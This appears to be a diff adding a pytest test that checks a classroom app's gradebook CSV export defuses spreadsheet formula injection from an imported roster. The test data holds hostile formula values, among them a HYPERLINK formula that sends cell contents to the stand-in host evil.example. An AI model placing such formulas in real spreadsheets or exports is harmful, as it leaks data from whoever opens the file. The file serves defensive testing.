@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from classroom_harness import INSTRUCTOR, Classroom
 from test_classroom_bad_input import csrf_of, web_login
@@ -68,3 +71,22 @@ def test_sign_in_still_returns_to_a_local_page(room, http):
                   allow_redirects=False, data={"csrf_token": csrf, "email": INSTRUCTOR[0],
                                                "password": INSTRUCTOR[1]})
     assert r.headers["Location"] == "/queue/"
+
+
+def test_gradebook_csv_does_not_hand_spreadsheets_formulas_from_the_roster(room, http):
+    web_login(http, room, email=INSTRUCTOR[0], password=INSTRUCTOR[1])
+    roster = ('"=HYPERLINK(""http://evil.example/?""&A1,""Open"")",eq@example.edu,A\n'
+              "+1+cmd,plus@example.edu,@SUM(1+1)\n"
+              "Dash Person,-2+3@example.edu,B\n")
+    csrf = csrf_of(http, f"{room.url}/roster/")
+    r = http.post(f"{room.url}/roster/import", data={"csrf_token": csrf}, timeout=10,
+                  files={"csv": ("r.csv", roster.encode(), "text/csv")})
+    assert r.status_code == 200 and "3 new" in r.text
+    export = http.get(f"{room.url}/gradebook.csv", timeout=10)
+    rows = {row[1]: row for row in csv.reader(io.StringIO(export.text))}
+    assert rows["eq@example.edu"][0] == '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    assert rows["plus@example.edu"][0] == "'+1+cmd"
+    assert rows["plus@example.edu"][2] == "'@SUM(1+1)"
+    assert rows["'-2+3@example.edu"][0] == "Dash Person"
+    # Ordinary names are left as they are.
+    assert rows["ada@example.edu"][:3] == ["Ada Lovelace", "ada@example.edu", "A"]
